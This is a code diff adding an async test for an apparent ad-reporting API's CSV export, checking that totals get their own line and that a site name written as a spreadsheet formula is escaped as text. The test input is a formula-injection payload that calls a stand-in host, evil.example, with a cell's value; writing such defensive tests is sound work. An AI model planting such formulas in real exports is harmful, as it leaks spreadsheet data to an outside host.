@@ -50,6 +50,27 @@ async def test_hours_of_a_zone_in_json_and_csv(api: RunningApi) -> None:
     ]
 
 
+async def test_csv_for_a_spreadsheet(api: RunningApi) -> None:
+    """Totals stand in lines of their own, and a site that calls itself a formula is a text."""
+    formula = '=hyperlink("https://evil.example/"&a1)'
+    for site in (formula, "plain.example"):
+        await hold(api, site={"domain": site, "publisher": {"id": "pub-sheet"}})
+    query = "publisher=pub-sheet&by=site&totals=true"
+    total: dict[str, Any] = {}
+
+    async def is_counted() -> bool:
+        nonlocal total
+        total = msgspec.json.decode((await get(api, query))[1])["totals"]
+        return bool(total["bids"] == 4)
+
+    await until(is_counted, seconds=20)
+    *rows, last = csv.DictReader(io.StringIO((await get(api, query, Accept="text/csv"))[1].decode()))
+    assert {row["site"] for row in rows} == {f"'{formula}", "plain.example"}
+    assert {row["line"] for row in rows} == {"row"}
+    assert (last["line"], last["site"], last["currency"]) == ("total", "", "USD")
+    assert (last["requests"], last["bids"], last["spend"]) == ("2", "4", total["spend"])
+
+
 async def test_a_top_list(api: RunningApi) -> None:
     """Of each currency so many rows as asked for, the highest first, under the totals of all."""
     for number in range(3):
